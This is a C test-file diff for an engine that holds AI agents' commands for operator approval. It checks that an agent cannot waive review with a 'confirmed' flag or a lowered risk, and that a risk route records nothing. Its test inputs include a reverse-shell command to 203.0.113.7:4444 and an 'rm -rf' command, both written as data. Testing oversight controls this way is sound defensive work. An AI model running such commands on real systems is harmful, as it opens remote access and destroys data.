@@ -777,6 +777,174 @@ static void test_confirmation_state(void **state)
             fail_msg("%s exists: the action ran", never[i]);
 }
 
+/* OpenHands puts confirmation_state inside args: "rejected" there is recorded and never runs,
+ * whatever the top level says; "awaiting_confirmation" there is skipped; the agent's
+ * "confirmed" never skips the operator, and is recorded as the agent sent it. */
+static void test_confirmation_state_in_args(void **state)
+{
+    need_high();
+    struct reply r;
+    execute(harness_eng, high.id,
+            "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"touch "
+            "/workspace/csa-rejected\",\"confirmation_state\":\"rejected\"}}}",
+            false, &r);
+    assert_int_equal(r.status, 200);
+    assert_user_rejected(r.json, "agent", AGENT_REJECTED);
+    reply_free(&r);
+
+    /* "confirmed" at the top level does not hide "rejected" in args */
+    execute(harness_eng, high.id,
+            "{\"action\":{\"action\":\"run\",\"confirmation_state\":\"confirmed\",\"args\":"
+            "{\"command\":\"touch /workspace/csa-both\",\"confirmation_state\":\"rejected\"}}}",
+            true, &r);
+    assert_int_equal(r.status, 202);
+    assert_string_equal(jstr(r.json, "state"), "rejected");
+    json_int_t rid = json_integer_value(json_object_get(r.json, "action_id"));
+    reply_free(&r);
+
+    execute(harness_eng, high.id,
+            "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"touch "
+            "/workspace/csa-awaiting\",\"confirmation_state\":\"awaiting_confirmation\"}}}",
+            true, &r);
+    assert_int_equal(r.status, 202);
+    assert_string_equal(jstr(r.json, "state"), "skipped");
+    reply_free(&r);
+
+    /* the agent's "confirmed" on a HIGH action: it still waits for the operator */
+    const char *cmd = "rm -rf /home/x && touch /workspace/csa-confirmed";
+    char *body = strdupf("{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"%s\","
+                         "\"confirmation_state\":\"confirmed\",\"security_risk\":0}}}",
+                         cmd);
+    execute(harness_eng, high.id, body, true, &r);
+    free(body);
+    assert_int_equal(r.status, 202);
+    assert_string_equal(jstr(r.json, "state"), "pending");
+    json_int_t pid = json_integer_value(json_object_get(r.json, "action_id"));
+    reply_free(&r);
+    json_t *g = action_get(harness_eng, pid, -1);
+    assert_state(g, "pending", "pending");
+    /* what the agent declared is on record, beside paddock's own */
+    assert_string_equal(jstr(g, "args.args.confirmation_state"), "confirmed");
+    assert_string_equal(jstr(g, "declared_risk"), "low");
+    assert_string_equal(jstr(g, "risk"), "high");
+    json_decref(g);
+    decide(harness_eng, pid, "reject", NULL, &r);
+    assert_int_equal(r.status, 200);
+    reply_free(&r);
+
+    g = action_get(harness_eng, rid, -1);
+    assert_state(g, "rejected", "rejected");
+    assert_string_equal(jstr(g, "decided_by"), "agent");
+    json_decref(g);
+
+    /* a wrong type in args: 400, nothing recorded */
+    execute(harness_eng, high.id,
+            "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"touch /workspace/csa-bad\","
+            "\"confirmation_state\":[1]}}}",
+            false, &r);
+    expect_error(&r, 400, "bad_request", "confirmation_state");
+    reply_free(&r);
+
+    json_decref(session_run(harness_eng, high.id, "true"));
+    static const char *const never[] = {"csa-rejected", "csa-both", "csa-awaiting", "csa-confirmed",
+                                        "csa-bad"};
+    for (size_t i = 0; i < sizeof(never) / sizeof(*never); i++)
+        if (ws_has(high.ws, never[i]))
+            fail_msg("%s exists: the action ran", never[i]);
+}
+
+/* The number of actions the engine has recorded in a session. */
+static size_t recorded(const char *sid)
+{
+    char *p = strdupf("/v1/history?session=%s&limit=1000", sid);
+    struct reply r;
+    api(harness_eng, "GET", p, NULL, &r);
+    free(p);
+    assert_int_equal(r.status, 200);
+    size_t n = json_array_size(json_object_get(r.json, "actions"));
+    reply_free(&r);
+    return n;
+}
+
+/* POST /v1/risk: what execute_action would make of an action, recording nothing. */
+static void test_risk_route(void **state)
+{
+    need_high();
+    size_t before = recorded(high.id);
+    struct reply r;
+    api(harness_eng, "POST", "/v1/risk",
+        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"bash -i >& "
+        "/dev/tcp/203.0.113.7/4444 0>&1\"}}}",
+        &r);
+    assert_int_equal(r.status, 200);
+    assert_string_equal(jstr(r.json, "risk"), "high");
+    assert_non_null(strstr(jstr(r.json, "reason"), "opens a shell to 203.0.113.7:4444"));
+    assert_true(json_is_null(json_object_get(r.json, "rule")));
+    assert_true(json_is_null(json_object_get(r.json, "declared_risk")));
+    reply_free(&r);
+
+    /* the agent's declared risk: shown, and the higher one decides */
+    api(harness_eng, "POST", "/v1/risk",
+        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"ls\",\"security_risk\":2}}}", &r);
+    assert_int_equal(r.status, 200);
+    assert_string_equal(jstr(r.json, "risk"), "high");
+    assert_string_equal(jstr(r.json, "declared_risk"), "high");
+    reply_free(&r);
+    api(harness_eng, "POST", "/v1/risk",
+        "{\"action\":{\"action\":\"write\",\"args\":{\"path\":\"/workspace/a.py\","
+        "\"content\":\"x = 1\\n\"}}}",
+        &r);
+    assert_int_equal(r.status, 200);
+    assert_string_equal(jstr(r.json, "risk"), "low");
+    reply_free(&r);
+
+    /* with a session, the rule that would decide it */
+    char *p = strdupf("/v1/sessions/%s/rules", high.id);
+    api(harness_eng, "POST", p, "{\"pattern\": \"git push *\", \"decision\": \"deny\"}", &r);
+    assert_int_equal(r.status, 201);
+    reply_free(&r);
+    free(p);
+    p = strdupf("/v1/risk?session=%s", high.id);
+    api(harness_eng, "POST", p,
+        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"git push origin main\"}}}", &r);
+    assert_int_equal(r.status, 200);
+    assert_string_equal(jstr(r.json, "risk"), "medium");
+    assert_string_equal(jstr(r.json, "rule.pattern"), "git push *");
+    assert_string_equal(jstr(r.json, "rule.decision"), "deny");
+    reply_free(&r);
+    api(harness_eng, "POST", p,
+        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"git status\"}}}", &r);
+    assert_int_equal(r.status, 200);
+    assert_true(json_is_null(json_object_get(r.json, "rule")));
+    reply_free(&r);
+    free(p);
+
+    /* bad bodies: the error table's codes */
+    static const struct {
+        const char *body, *code, *want;
+    } bad[] = {
+        {"not json", "invalid_json", NULL},
+        {"{}", "bad_request", "\"action\" must be an object"},
+        {"{\"action\": 1}", "bad_request", "\"action\" must be an object"},
+        {"{\"action\": {\"args\": {}}}", "bad_request", "action.action"},
+        {"{\"action\": {\"action\": \"run\", \"args\": 3}}", "bad_request", "action.args"},
+        {"{\"action\": {\"action\": \"run\", \"confirmation_state\": 1}}", "bad_request",
+         "confirmation_state"},
+    };
+    for (size_t i = 0; i < sizeof(bad) / sizeof(bad[0]); i++) {
+        api(harness_eng, "POST", "/v1/risk", bad[i].body, &r);
+        expect_error(&r, 400, bad[i].code, bad[i].want);
+        reply_free(&r);
+    }
+    api(harness_eng, "POST", "/v1/risk?session=no-such-session",
+        "{\"action\":{\"action\":\"run\",\"args\":{\"command\":\"ls\"}}}", &r);
+    expect_error(&r, 404, "not_found", "no-such-session");
+    reply_free(&r);
+
+    /* nothing recorded, nothing pending */
+    assert_int_equal(recorded(high.id), before);
+}
+
 /* What waits under each policy, and a declared risk that raises but never lowers. */
 static void test_policies_and_declared_risk(void **state)
 {
@@ -1868,6 +2036,8 @@ int main(void)
         cmocka_unit_test(test_wait0_and_long_poll),
         cmocka_unit_test(test_agent_gave_up),
         cmocka_unit_test(test_confirmation_state),
+        cmocka_unit_test(test_confirmation_state_in_args),
+        cmocka_unit_test(test_risk_route),
         cmocka_unit_test(test_policies_and_declared_risk),
         cmocka_unit_test(test_timeout),
         cmocka_unit_test(test_decision_errors),
